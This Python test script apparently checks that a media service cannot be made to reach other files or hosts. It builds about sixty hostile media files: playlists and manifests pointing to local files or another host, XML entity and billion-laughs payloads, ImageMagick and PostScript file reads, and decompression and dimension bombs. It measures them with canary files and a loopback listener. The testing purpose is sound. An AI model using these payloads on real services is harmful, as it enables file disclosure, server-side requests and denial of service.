"""Media that name other files and other hosts, through every task that takes media.

    .venv/bin/python tests/security/hostile_media.py          prints the table of docs/explanation/hostile-media.md
    .venv/bin/python tests/security/hostile_media.py --write  writes it; --json: the same for a program

Canaries: real media in a directory that the kernel watches (inotify: each open is told), and a
server on 127.0.0.3, which notes connections and from which the service may not fetch. Each
file goes through each task of a whole service, under a name that ends as an innocent medium's.
`unguarded` is the same ffmpeg program, told to be lenient: what the file would reach.
"""

# ruff: noqa: E501, ISC004  (a table of files is easier to read in long lines)

import argparse
import contextlib
import ctypes
import json
import os
import socket
import struct
import subprocess
import tempfile
import threading
import time
import zlib
from pathlib import Path

from media_lab import TASKS, definition, png_of, run, seeds, service

PAGE = Path(__file__).parents[2] / "docs" / "explanation" / "hostile-media.md"
IN_OPEN = 0x20


class Canaries:
    """Files that tell when they are opened, and a server that tells when it is connected to."""

    def __init__(self, directory):
        self.directory = directory
        self.reached = []
        libc = ctypes.CDLL(None, use_errno=True)
        self._watch = libc.inotify_init1(os.O_NONBLOCK)
        assert libc.inotify_add_watch(self._watch, os.fsencode(directory), IN_OPEN) > 0
        self._listener = socket.create_server(("127.0.0.3", 0))
        self.address = f"127.0.0.3:{self._listener.getsockname()[1]}"
        threading.Thread(target=self._accept, daemon=True).start()

    def take(self):
        """Return what was reached since the last time."""
        time.sleep(0.05)
        found, self.reached = self.reached, []
        try:
            data = os.read(self._watch, 1 << 20)
        except BlockingIOError:
            return sorted(set(found))
        while data:
            _, mask, _, length = struct.unpack("iIII", data[:16])
            name = data[16 : 16 + length].rstrip(b"\0").decode()
            if name and mask & IN_OPEN:
                found.append(name)
            data = data[16 + length :]
        return sorted(set(found))

    def _accept(self):
        while True:
            connection, _ = self._listener.accept()
            self.reached.append("the host")
            with connection:
                connection.sendall(b"HTTP/1.1 404 No\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


def box(kind, body):
    return struct.pack("!I", len(body) + 8) + kind + body


def reference_movie(target):
    """A QuickTime movie that has only the address of another (rmra, QuickTime File Format, "Reference Movies")."""
    url = target.encode() + b"\0"
    reference = box(b"rdrf", bytes(4) + b"url " + struct.pack("!I", len(url)) + url)
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", reference)))


def external_data(mp4, target):
    """An MP4 whose data reference says that its samples stand elsewhere (ISO 14496-12, 8.7.2: `url `, flags 0)."""
    old = box(b"url ", b"\0\0\0\1")
    return mp4.replace(old, box(b"url ", bytes(4))[:8] + b"\0\0\0\0", 1), old in mp4


def files(canary, host, whole):
    """Return hostile files by what they are: (name, bytes). *canary* is a directory, *host* an address."""
    wav, png, mp4, ts = (f"{canary}/canary.{suffix}" for suffix in ("wav", "png", "mp4", "ts"))
    url = f"http://{host}"
    hls = "#EXTM3U\n#EXT-X-TARGETDURATION:1\n{}#EXTINF:1,\n{}\n#EXT-X-ENDLIST\n"
    dash = (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S">'
        '<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{0}</BaseURL>'
        '<SegmentList duration="1"><SegmentURL media="{0}"/></SegmentList></Representation></AdaptationSet></Period></MPD>'
    )
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
    xxe = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "{}">]>'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(12))
    subtitles = "[Script Info]\n[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,Default,,0,0,0,,{{\\fn{0}}}{0}\n"
    tiff = (
        struct.pack("<2sHIH", b"II", 42, 8, 4)
        + b"".join(
            struct.pack("<HHII", tag, kind, 1, value)
            for tag, kind, value in ((256, 4, 2**31 - 1), (257, 4, 2**31 - 1), (262, 3, 1), (273, 4, 8))
        )
        + bytes(4)
    )
    exif = b"Exif\0\0II*\0\x08\0\0\0\x02\0" + struct.pack("<HHII", 0x0112, 3, 2**32 - 1, 2**32 - 8) * 2
    deep = b"<div>" * 200_000
    made = {
        "HLS, a local file": ("a.mp4", hls.format("", ts)),
        "HLS, file: URL": ("b.mp4", hls.format("", f"file://{ts}")),
        "HLS, another host": ("c.mp4", hls.format("", f"{url}/a.ts")),
        "HLS, key in a local file": ("d.ts", hls.format(f'#EXT-X-KEY:METHOD=AES-128,URI="{wav}"\n', ts)),
        "HLS, key on another host": ("e.ts", hls.format(f'#EXT-X-KEY:METHOD=AES-128,URI="{url}/k"\n', f"{url}/a.ts")),
        "HLS, concat protocol": ("f.mp4", hls.format("", f"concat:{ts}|{ts}")),
        "HLS, subfile protocol": ("g.mp4", hls.format("", f"subfile,,start,0,end,64,,:{ts}")),
        "HLS, initialization section": ("h.mp4", hls.format(f'#EXT-X-MAP:URI="{mp4}"\n', mp4)),
        "HLS master, local variant": ("i.mp4", f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{canary}/canary.m3u8\n"),
        "m3u of a local file": ("a.mp3", f"#EXTM3U\n{wav}\n"),
        "pls": ("b.mp3", f"[playlist]\nFile1={wav}\nNumberOfEntries=1\n"),
        "ffconcat, a local file": ("j.mp4", f"ffconcat version 1.0\nfile '{mp4}'\n"),
        "ffconcat, named as sound": ("a.wav", f"ffconcat version 1.0\nfile '{wav}'\n"),
        "ffconcat, another host": ("k.mp4", f"ffconcat version 1.0\nfile '{url}/a.mp4'\n"),
        "DASH, a local file": ("l.mp4", dash.format(mp4)),
        "DASH, another host": ("m.mp4", dash.format(f"{url}/a.mp4")),
        "DASH with an XML entity": ("n.mp4", xxe.format(f"file://{wav}") + dash.format("&e;")[21:]),
        "SDP of another host": (
            "o.mp4",
            f"v=0\no=- 0 0 IN IP4 127.0.0.3\ns=a\nc=IN IP4 127.0.0.3\nt=0 0\n"
            f"m=video {host.partition(':')[2]} RTP/AVP 96\na=rtpmap:96 H264/90000\n",
        ),
        "reference movie, a local file": ("p.mov", reference_movie(f"file://{mp4}")),
        "reference movie, another host": ("q.mov", reference_movie(f"{url}/a.mov")),
        "MP4, samples elsewhere": ("r.mp4", external_data(whole["h264.mp4"], mp4)[0]),
        "ISM manifest": ("s.mp4", f'<SmoothStreamingMedia><StreamIndex Url="{url}/a"/></SmoothStreamingMedia>'),
        "ASX": ("a.wmv", f'<asx version="3.0"><entry><ref href="{url}/a.wmv"/></entry></asx>'),
        "RealMedia reference": ("a.rm", f"{url}/a.rm\n"),
        "RTSP text": ("t.mp4", f"RTSPtext\r\nrtsp://{host}/a\r\n"),
        "XSPF": (
            "c.mp3",
            f'<playlist xmlns="http://xspf.org/ns/0/"><track><location>{url}/a</location></track></playlist>',
        ),
        "VobSub index": ("u.mp4", "# VobSub index file, v7\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 0\n"),
        "ASS subtitles": ("v.mp4", subtitles.format(wav)),
        "AviSynth script": ("a.avi", f'AVISource("{mp4}")\n'),
        "VapourSynth script": ("b.avi", f"open('{wav}').read()\n"),
        "graph for lavfi": ("w.mp4", f"movie={mp4}"),
        "ffmetadata": ("x.mp4", f";FFMETADATA1\ntitle={url}\n"),
        "picture pattern in a name": ("%03d.png", png_of((3, 3))),
        "glob in a name": ("*.png", png_of((3, 3))),
        "SVG, image of a local file": ("a.png", svg.format(f'<image xlink:href="file://{png}" width="9" height="9"/>')),
        "SVG, image of another host": ("b.png", svg.format(f'<image xlink:href="{url}/a.png" width="9" height="9"/>')),
        "SVG, style sheet of another host": ("c.png", f'<?xml-stylesheet href="{url}/a.css"?>' + svg.format("")),
        "SVG, entity of a local file": ("d.png", xxe.format(f"file://{wav}") + svg.format("<text>&e;</text>")),
        "SVG, entity of another host": ("e.png", xxe.format(f"{url}/e") + svg.format("<text>&e;</text>")),
        "SVG, a billion laughs": ("f.png", f"<!DOCTYPE svg [{laughs}]>" + svg.format("<text>&l11;</text>")),
        "MVG": ("g.png", f"push graphic-context\nimage over 0,0 0,0 'url({url}/a)'\npop graphic-context"),
        "MSL": ("h.png", f'<image><read filename="{png}"/></image>'),
        "ImageMagick label": ("i.png", f"label:@{wav}"),
        "PostScript that reads a file": (
            "a.eps",
            f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({wav}) (r) file\n",
        ),
        "PostScript named .jpg": ("a.jpg", f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({wav}) (r) file\n"),
        "PDF with a link": ("b.jpg", f"%PDF-1.4\n1 0 obj<</Type/Action/S/URI/URI({url})>>endobj\n"),
        "PNG of 2^31-1 by 2^31-1 px": ("j.png", png_of((2**31 - 1, 2**31 - 1))),
        "PNG bomb, 30,000 by 30,000 px": ("k.png", png_of((30_000, 30_000), zlib.compress(bytes(20_000_000), 9))),
        "PNG, text of 40 MB packed": ("l.png", png_of((3, 3))[:33] + itxt(40_000_000) + png_of((3, 3))[33:]),
        "TIFF of 2^31-1 by 2^31-1 px": ("a.tiff", tiff),
        "WebP of 16,383 by 16,383 px": ("a.webp", b"RIFF\x16\0\0\0WEBPVP8L\x0a\0\0\0\x2f\xfe\xff\xff\x0f\0\0\0\0\0"),
        "GIF of 65,535 by 65,535 px": (
            "a.gif",
            b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\0\2\2L\1\0;",
        ),
        "Exif with counts past its end": (
            "c.jpg",
            b"\xff\xd8\xff\xe1" + struct.pack("!H", len(exif) + 2) + exif + whole["seed.jpg"][2:],
        ),
        "Exif that points to itself": ("d.jpg", loop(whole["seed.jpg"])),
        "WAV that tells 4 GB": (
            "b.wav",
            whole["a.wav"][:4] + b"\xff" * 4 + whole["a.wav"][8:40] + b"\xff" * 4 + whole["a.wav"][44:],
        ),
        "HTML, 200,000 elements deep": ("a.html", deep),
        "HTML with an entity": ("b.html", xxe.format(f"file://{wav}") + f"<p>&e;<img src='file://{png}'></p>"),
        "HTML base of a local file": (
            "c.html",
            f"<base href='file://{canary}/'><img src=canary.png><iframe src='{url}/a'>",
        ),
    }
    return {what: (name, text.encode() if isinstance(text, str) else text) for what, (name, text) in made.items()}


def itxt(size):
    """A compressed text chunk of PNG (11.3.4.3) that unpacks to *size* bytes."""
    body = b"zTXta\0\0" + zlib.compress(bytes(size), 9)
    return struct.pack("!I", len(body) - 4) + body + struct.pack("!I", zlib.crc32(body))


def loop(jpeg):
    """A JPEG whose Exif directory has itself as the next and as its sub-directory (Exif 2.3, 4.6.3)."""
    entry = struct.pack("<HHII", 0x8769, 4, 1, 8)
    exif = b"Exif\0\0II*\0\x08\0\0\0\x01\0" + entry + struct.pack("<I", 8)
    return b"\xff\xd8\xff\xe1" + struct.pack("!H", len(exif) + 2) + exif + jpeg[2:]


def unguarded(path):
    """Read *path* with ffmpeg as one would who thinks of no harm, and who says what kind of playlist it is."""
    import imageio_ffmpeg

    program = imageio_ffmpeg.get_ffmpeg_exe()
    loose = ["-protocol_whitelist", "file,http,tcp,crypto,concat,subfile,rtp,udp,data"]
    head = path.read_bytes()[:200]
    options = []
    if head.startswith(b"#EXTM3U"):
        options = [
            "-allowed_extensions",
            "ALL",
            "-allowed_segment_extensions",
            "ALL",
            "-extension_picky",
            "0",
            "-f",
            "hls",
        ]
    elif head.startswith(b"ffconcat"):
        options = ["-safe", "0"]
    elif b"MPD" in head:
        options = ["-f", "dash"]
    elif head.startswith(b"v=0"):
        options = ["-f", "sdp"]
    command = [program, "-loglevel", "error", *loose, *options, "-t", "1", "-i", path, "-f", "null", "-"]
    with contextlib.suppress(subprocess.TimeoutExpired):
        subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, timeout=4)


def measure():
    from dragon_framework.testing.file_server import FileServer

    rows = []
    with tempfile.TemporaryDirectory(prefix="hostile-media-") as name, FileServer() as server, service() as dragon:
        directory = Path(name)
        for part in ("seeds", "files", "canary"):
            (directory / part).mkdir()
        whole = {path.name: path.read_bytes() for path in seeds(directory / "seeds")}
        for suffix, seed in {"wav": "a.wav", "png": "seed.png", "mp4": "h264.mp4", "ts": "a.ts"}.items():
            (directory / "canary" / f"canary.{suffix}").write_bytes(whole[seed])
        (directory / "canary" / "canary.m3u8").write_text("#EXTM3U\n#EXTINF:1,\ncanary.ts\n#EXT-X-ENDLIST\n")
        canaries = Canaries(directory / "canary")
        canaries.take()
        for what, (file_name, data) in files(directory / "canary", canaries.address, whole).items():
            path = directory / "files" / file_name
            path.write_bytes(data)
            statuses = run(dragon, [definition(task, server.serve(path)) for task in TASKS], 120)
            reached = canaries.take()
            codes = {}
            for task, status in zip(TASKS, statuses, strict=True):
                code = (status.get("error") or {}).get("code", status["status"])
                codes.setdefault(code, []).append(task)
            unguarded(path)
            rows.append({"what": what, "reached": reached, "codes": codes, "unguarded": canaries.take()})
            path.unlink()
    return rows


def table(rows):
    """Return the page."""
    lines = [
        "# What a medium cannot reach",
        "",
        "Written by `python tests/security/hostile_media.py --write`: each file through each of the",
        f"{len(TASKS)} tasks that take media, in a whole service. The canaries are files whose opening the kernel tells,",
        "and a server on another address of loopback. `unguarded` is what the same ffmpeg program reaches when it is",
        "given the file and told to be lenient.",
        "",
        f"{len(rows)} files, {len(rows) * len(TASKS)} tasks: {sum(bool(row['reached']) for row in rows)} files reached a canary.",
        f"Unguarded: {sum(bool(row['unguarded']) for row in rows)} did.",
        "",
        "| file | reached | unguarded reaches | tasks by outcome |",
        "| --- | --- | --- | --- |",
    ]
    for row in rows:
        codes = ", ".join(f"{len(tasks)} {code}" for code, tasks in sorted(row["codes"].items()))
        cells = [row["what"], ", ".join(row["reached"]) or "nothing", ", ".join(row["unguarded"]) or "nothing", codes]
        lines.append(f"| {' | '.join(cells)} |")
    return "\n".join(lines) + "\n"


def main():
    """Measure, and tell it as asked."""
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--json", action="store_true")
    parser.add_argument("--write", action="store_true")
    given = parser.parse_args()
    rows = measure()
    if given.json:
        print(json.dumps(rows))
    elif given.write:
        PAGE.write_text(table(rows), encoding="utf-8")
    else:
        print(table(rows), end="")


if __name__ == "__main__":
    main()
